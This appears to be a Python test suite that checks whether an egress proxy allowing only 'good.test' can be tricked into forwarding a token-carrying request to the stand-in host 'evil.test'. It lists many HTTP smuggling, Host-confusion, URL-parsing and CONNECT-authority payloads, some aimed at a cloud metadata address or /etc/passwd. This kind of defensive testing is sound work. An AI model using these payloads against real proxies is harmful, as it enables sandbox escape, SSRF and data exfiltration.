"""HTTP that two readers could read in two ways. Bytes may come to the allowed server, but never a request for another."""

from rows import NAMED, WEB, attempt, only, reaches
from wire import by_connect, by_proxy, direct, request, resolved, whole_address

GOOD = only("good.test")


def other(token, host="evil.test", first=""):
    return f"{first}GET /{token} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode("latin-1")


FIRST = b"GET /first HTTP/1.1\r\nHost: good.test\r\n\r\n"


def head(*lines, body=b""):
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body


# What is said inside a tunnel to good.test; each is tried redirected, by CONNECT, and a part of them to the proxy itself.
INSIDE = {
    "another Host": lambda t: other(t),
    "another Host in a second request": lambda t: [FIRST, other(t)],
    "another Host in one packet with the first request": lambda t: FIRST + other(t),
    "a whole address of another server": lambda t: head(f"GET http://evil.test/{t} HTTP/1.1", "Host: good.test"),
    "a whole address of another server, and its Host": lambda t: head(
        f"GET http://evil.test/{t} HTTP/1.1", "Host: evil.test"
    ),
    "a whole address of the allowed server, another Host": lambda t: head(
        f"GET http://good.test/{t} HTTP/1.1", "Host: evil.test"
    ),
    "two Hosts": lambda t: head(f"GET /{t} HTTP/1.1", "Host: good.test", "Host: evil.test"),
    "two Hosts, the other first": lambda t: head(f"GET /{t} HTTP/1.1", "Host: evil.test", "Host: good.test"),
    "a Host on two lines": lambda t: head(f"GET /{t} HTTP/1.1", "Host: good.test", " evil.test"),
    "a Host that begins on the next line": lambda t: head(f"GET /{t} HTTP/1.1", "Host:", " evil.test"),
    "a Host with a space before its colon": lambda t: head(f"GET /{t} HTTP/1.1", "Host : evil.test", "Host: good.test"),
    "a Host with a tab": lambda t: head(f"GET /{t} HTTP/1.1", "Host:\tevil.test"),
    "a Host with NUL": lambda t: head(f"GET /{t} HTTP/1.1", "Host: good.test\0.evil.test"),
    "a Host with user and server": lambda t: head(f"GET /{t} HTTP/1.1", "Host: good.test@evil.test"),
    "a Host with a list": lambda t: head(f"GET /{t} HTTP/1.1", "Host: good.test, evil.test"),
    "a Host with a slash": lambda t: head(f"GET /{t} HTTP/1.1", "Host: evil.test/good.test"),
    "a Host that is an address inside": lambda t: head(f"GET /{t} HTTP/1.1", "Host: 169.254.169.254"),
    "no Host": lambda t: head(f"GET /{t} HTTP/1.0"),
    "an empty Host": lambda t: head(f"GET /{t} HTTP/1.1", "Host:"),
    "a line before the request": lambda t: b"\r\n" + other(t),
    "a space before the request": lambda t: b" " + other(t),
    "a tab before the request": lambda t: b"\t" + other(t),
    "a control character before the request": lambda t: b"\x0b" + other(t),
    "a separator (1C) before the request": lambda t: b"\x1c" + other(t),
    "a separator (1F) before the request": lambda t: b"\x1f" + other(t),
    "a new line of Latin-1 before the request": lambda t: b"\x85" + other(t),
    "a blank of Latin-1 before the request": lambda t: b"\xa0" + other(t),
    "separators in the request": lambda t: f"GET\x1c/{t}\x1cHTTP/1.1\r\nHost: evil.test\r\n\r\n".encode(),
    "blanks of Latin-1 in the request": lambda t: f"GET\xa0/{t}\xa0HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode(
        "latin-1"
    ),
    "form feeds in the request": lambda t: f"GET\x0c/{t}\x0bHTTP/1.1\r\nHost: evil.test\r\n\r\n".encode(),
    "NUL in the path": lambda t: head(f"GET /{t}\0 HTTP/1.1", "Host: evil.test"),
    "NUL in the path, and a while until the rest": lambda t: [
        f"GET /{t}\0".encode(),
        b" HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ],
    "a blank, and a while until the rest": lambda t: [b" ", other(t)],
    "half of the version, and a while until the rest": lambda t: [
        f"GET /{t} HT".encode(),
        b"TP/1.1\r\nHost: evil.test\r\n\r\n",
    ],
    "a very long path": lambda t: f"GET /{t}{'x' * 40000} HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode(),
    "very many blanks": lambda t: b" " * 40000 + other(t),
    "very many lines": lambda t: b"\r\n" * 20000 + other(t),
    "a line of a proxy before the request": lambda t: b"PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n" + other(t),
    "a word before the request": lambda t: b"X\r\n" + other(t),
    "NUL before the request": lambda t: b"\0" + other(t),
    "a control character in the path": lambda t: head(f"GET /{t}\x01 HTTP/1.1", "Host: evil.test"),
    "lines that end with LF": lambda t: f"GET /{t} HTTP/1.1\nHost: evil.test\n\n".encode(),
    "lines that end with CR": lambda t: f"GET /{t} HTTP/1.1\rHost: evil.test\r\r".encode(),
    "a request in pieces": lambda t: [bytes([byte]) for byte in other(t)],
    "lower case HTTP": lambda t: head(f"get /{t} http/1.1", "Host: evil.test"),
    "HTTP/1.2": lambda t: head(f"GET /{t} HTTP/1.2", "Host: evil.test"),
    "a method that nobody knows": lambda t: head(f"!GET /{t} HTTP/1.1", "Host: evil.test"),
    "a length and chunks": lambda t: head(
        "POST /first HTTP/1.1",
        "Host: good.test",
        "Content-Length: 4",
        "Transfer-Encoding: chunked",
        body=b"0\r\n\r\n" + other(t),
    ),
    "chunks and a length": lambda t: head(
        "POST /first HTTP/1.1",
        "Host: good.test",
        "Transfer-Encoding: chunked",
        "Content-Length: 300",
        body=b"0\r\n\r\n" + other(t),
    ),
    "two lengths": lambda t: head(
        "POST /first HTTP/1.1",
        "Host: good.test",
        "Content-Length: 0",
        f"Content-Length: {len(other(t))}",
        body=other(t),
    ),
    "a length with a sign": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Content-Length: +0", body=other(t)
    ),
    "a length in a list": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", f"Content-Length: 0, {len(other(t))}", body=other(t)
    ),
    "a length on two lines": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Content-Length:", " 0", body=other(t)
    ),
    "chunks by another spelling": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Transfer-Encoding: xchunked", body=other(t)
    ),
    "chunks with a space": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Transfer-Encoding : chunked", body=b"0\r\n\r\n" + other(t)
    ),
    "chunks in a list": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n" + other(t)
    ),
    "a chunk with a remark that ends early": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Transfer-Encoding: chunked", body=b"0;a\nb\r\n\r\n" + other(t)
    ),
    "a chunk that is longer than it says": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Transfer-Encoding: chunked", body=b"1\r\nxx0\r\n\r\n" + other(t)
    ),
    "a chunk of an overflowing size": lambda t: head(
        "POST /first HTTP/1.1",
        "Host: good.test",
        "Transfer-Encoding: chunked",
        body=b"10000000000000000\r\n\r\n" + other(t),
    ),
    "a request after the last chunk's remarks": lambda t: head(
        "POST /first HTTP/1.1",
        "Host: good.test",
        "Transfer-Encoding: chunked",
        body=b"0\r\nHost: evil.test\r\n\r\n" + other(t),
    ),
    "a request in a GET's body": lambda t: head("GET /first HTTP/1.1", "Host: good.test", body=other(t)),
    "a request in HTTP/1.0's body": lambda t: head("POST /first HTTP/1.0", "Host: good.test", body=other(t)),
    "expecting to go on": lambda t: head(
        "POST /first HTTP/1.1", "Host: good.test", "Expect: 100-continue", "Content-Length: 0", body=other(t)
    ),
    "a change to WebSocket": lambda t: head(
        f"GET /{t} HTTP/1.1", "Host: good.test", "Connection: Upgrade", "Upgrade: websocket", body=other(t)
    ),
    "a change to HTTP/2": lambda t: head(
        f"GET /{t} HTTP/1.1",
        "Host: good.test",
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        "HTTP2-Settings: AAAA",
        body=other(t),
    ),
    "HTTP/2 at once": lambda t: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + other(t),
    "CONNECT in a tunnel": lambda t: head("CONNECT evil.test:443 HTTP/1.1", "Host: evil.test", f"X: {t}"),
    "CONNECT in a tunnel, with the allowed Host": lambda t: head("CONNECT evil.test:80 HTTP/1.1", "Host: good.test")
    + other(t),
    "a head without an end": lambda t: f"GET /{t} HTTP/1.1\r\nHost: evil.test\r\nX: ".encode() + b"x" * 100000,
    "ten thousand lines of head": lambda t: f"GET /{t} HTTP/1.1\r\n".encode()
    + b"X: y\r\n" * 10000
    + b"Host: evil.test\r\n\r\n",
}
for name, data in INSIDE.items():
    attempt(f"{name}, redirected", NAMED, GOOD)(lambda token, data=data: direct(resolved("good.test"), 80, data(token)))
    attempt(f"{name}, by CONNECT", NAMED, GOOD)(lambda token, data=data: by_connect("good.test:80", data(token)))
    attempt(f"{name}, to an address of the web without registries", ("yolo-2",), only("93.184.215.14"))(
        lambda token, data=data: direct(
            "93.184.215.14",
            80,
            [
                part.replace(b"evil.test", b"pypi.org")
                for part in (data(token) if isinstance(data(token), list) else [data(token)])
            ],
        )
    )

# What is said to the proxy.
TO_PROXY = {
    "http://good.test@evil.test/": "evil.test",
    "http://good.test:80@evil.test/": "evil.test",
    "http://evil.test\\@good.test/": "good.test",
    "http://good.test\\.evil.test/": "evil.test",
    "http://good.test#@evil.test/": "good.test",
    "http://evil.test#@good.test/": "evil.test",
    "http://good.test?@evil.test/": "good.test",
    "http://good.test%2f@evil.test/": "evil.test",
    "http://good.test%40evil.test/": "evil.test",
    "http://good.test;evil.test/": "evil.test",
    "http://good.test,evil.test/": "evil.test",
    "http://good.test:80:80@evil.test:80/": "evil.test",
    "http:///evil.test/": "evil.test",
    "http:evil.test/": "evil.test",
    "http://evil.test:080/": "evil.test",
    "http://good.test\t.evil.test/": "evil.test",
    "http://[good.test]@evil.test/": "evil.test",
    "HTTP://EVIL.TEST/": "evil.test",
    "http://good.test.@evil.test/": "evil.test",
    "https://evil.test/": "evil.test",
    "ftp://evil.test/": "evil.test",
    "file:///etc/passwd?": "evil.test",
    "gopher://evil.test:80/": "evil.test",
    "//evil.test/": "evil.test",
    "/": "evil.test",
    "*": "evil.test",
    "http://evil.test:99999/": "evil.test",
    "http://evil.test:-1/": "evil.test",
    "http://evil.test:80;@good.test:80/": "good.test",
}
for url, host in TO_PROXY.items():
    attempt(f"to the proxy: {url!r}", NAMED, GOOD)(lambda token, url=url, host=host: whole_address(url, token, host))
AUTHORITIES = [
    b"good.test:80@evil.test:80",
    b"good.test@evil.test:80",
    b"evil.test:80#good.test:80",
    b"evil.test:80?good.test:80",
    b"evil.test:80/good.test:80",
    b"good.test\0.evil.test:80",
    b"evil.test\0.good.test:80",
    b"good.test\r\n.evil.test:80",
    b"good.test:80 evil.test:80",
    b"good.test:80\tevil.test:80",
    b"good.test:80:80",
    b"evil.test",
    b"evil.test:",
    b"evil.test:0",
    b"evil.test:0x50",
    b"evil.test:80.",
    b":80",
    b"evil.test:\xb280",
    b"[evil.test]:80",
    b"[::ffff:185.199.66.6]:80",
    b"\\evil.test:80",
    b"evil.test\\.good.test:80",
    b"good.test\xe3\x80\x82evil.test:80",
    b"*.good.test:80",
    b"*:80",
    b"http://evil.test:80",
    b"good.test:8080",
    b"good.test:22",
    b"good.test:65616",
]
for authority in AUTHORITIES:
    attempt(f"CONNECT {authority!r}", NAMED, GOOD)(
        lambda token, authority=authority: by_connect(authority, other(token))
    )
    attempt(f"CONNECT {authority!r}, sent with the request", NAMED, GOOD)(
        lambda token, authority=authority: by_proxy(
            b"CONNECT " + authority + b" HTTP/1.1\r\nHost: good.test:80\r\n\r\n" + other(token)
        )
    )
SAID = {
    "another Host beside a whole address": lambda t: head(f"GET http://good.test/{t} HTTP/1.1", "Host: evil.test"),
    "two Hosts beside a whole address": lambda t: head(
        f"GET http://good.test/{t} HTTP/1.1", "Host: good.test", "Host: evil.test"
    ),
    "a second request for another": lambda t: [
        head("GET http://good.test/first HTTP/1.1", "Host: good.test"),
        head(f"GET http://evil.test/{t} HTTP/1.1", "Host: evil.test"),
    ],
    "Connection names Host": lambda t: head(
        f"GET http://good.test/{t} HTTP/1.1", "Host: evil.test", "Connection: Host, close"
    ),
    "line breaks in the path": lambda t: f"GET http://good.test/x\rGET /{t} HTTP/1.1\r\nHost: evil.test HTTP/1.1\r\nHost: good.test\r\n\r\n".encode(),
    "a length and chunks to the proxy": lambda t: head(
        "POST http://good.test/first HTTP/1.1",
        "Host: good.test",
        "Content-Length: 4",
        "Transfer-Encoding: chunked",
        body=b"0\r\n\r\n" + other(t),
    ),
    "a request in chunks to the proxy": lambda t: head(
        "POST http://good.test/first HTTP/1.1",
        "Host: good.test",
        "Transfer-Encoding: chunked",
        body=b"0\r\n\r\n" + head(f"GET http://evil.test/{t} HTTP/1.1", "Host: evil.test"),
    ),
    "WebSocket over the proxy": lambda t: head(
        f"GET http://good.test/{t} HTTP/1.1", "Host: good.test", "Connection: Upgrade", "Upgrade: websocket"
    )
    + other(t),
    "HTTP/2 to the proxy": lambda t: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + other(t),
    "a request as to a server": lambda t: other(t),
    "HTTP/0.9": lambda t: f"GET http://evil.test/{t}\r\n".encode(),
    "X-Forwarded-Host": lambda t: head(
        f"GET http://good.test/{t} HTTP/1.1",
        "Host: good.test",
        "X-Forwarded-Host: evil.test",
        "Forwarded: host=evil.test",
    ),
    "Proxy-Authorization": lambda t: head(
        f"GET http://evil.test/{t} HTTP/1.1", "Host: evil.test", "Proxy-Authorization: Basic b3BlcmF0b3I6"
    ),
    "TRACE": lambda t: head(f"TRACE http://evil.test/{t} HTTP/1.1", "Host: evil.test", "Max-Forwards: 0"),
}
for name, data in SAID.items():
    attempt(f"to the proxy: {name}", NAMED, GOOD)(lambda token, data=data: by_proxy(data(token)))
attempt("a plain request is passed on as it is", NAMED + WEB, reaches("good.test"))(
    lambda token: by_connect("good.test:80", request("good.test", token))
)
